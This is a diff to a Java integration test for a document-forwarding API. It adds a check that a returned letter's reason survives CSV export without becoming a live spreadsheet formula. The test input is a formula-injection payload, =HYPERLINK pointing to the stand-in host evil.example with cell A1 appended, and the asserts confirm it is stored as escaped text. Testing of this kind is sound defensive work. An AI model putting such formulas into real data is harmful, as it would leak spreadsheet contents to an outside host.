@@ -10,6 +10,10 @@ import java.time.Duration;
 import java.time.LocalDate;
 import java.time.format.DateTimeFormatter;
 import java.util.List;
+import java.io.StringReader;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
+import org.letterflow.document.SpreadsheetText;
 import org.junit.jupiter.api.Test;
 import org.letterflow.it.Api;
 import org.letterflow.it.DeployedApplication;
@@ -64,7 +68,7 @@ class ForwardingApiIT extends DeployedApplication {
     }
 
     @Test
-    void aLetterGoesDownTheTreeIsRegisteredReissuedAndTheChainShowsIt() {
+    void aLetterGoesDownTheTreeIsRegisteredReissuedAndTheChainShowsIt() throws Exception {
         Api ministry = Api.as(base, "minpros.clerk", "demo");
         Api tomsk = Api.as(base, "tomsk.clerk", "demo");
         Api irkutsk = Api.as(base, "irkutsk.clerk", "demo");
@@ -127,7 +131,8 @@ class ForwardingApiIT extends DeployedApplication {
         assertEquals(400, noReason.status());
         assertTrue(noReason.body().contains("reason"), noReason.body());
         assertEquals("RETURNED", irkutsk.post("api/v1/deliveries/" + irkutskDelivery + "/return",
-                "{\"reason\": \"Направлено не по адресу\"}").json().getString("state"));
+                "{\"reason\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1;\\\"Направлено не по адресу\\\")\"}")
+                .json().getString("state"), "a reason another organisation typed, meant for the ministry's spreadsheet");
 
         Api.Reply chainReply = ministry.get("api/v1/letters/" + letter + "/chain");
         assertEquals(200, chainReply.status(), chainReply.body());
@@ -161,6 +166,12 @@ class ForwardingApiIT extends DeployedApplication {
         String text = new String(csv.body(), StandardCharsets.UTF_8);
         assertEquals(1 + 3 + 1 + schools, text.lines().count(), text);
         assertTrue(text.contains(incoming.getString("registrationNumber")), text);
+        List<CSVRecord> records = CSVFormat.EXCEL.builder().setDelimiter(';').get()
+                .parse(new StringReader(text.substring(1))).getRecords();
+        assertTrue(records.stream().flatMap(CSVRecord::stream).noneMatch(SpreadsheetText::startsFormula),
+                "no cell starts a formula: " + text);
+        assertTrue(records.stream().flatMap(CSVRecord::stream).anyMatch(c -> c.startsWith("'=HYPERLINK(")),
+                "the reason is kept, as text: " + text);
     }
 
     @Test
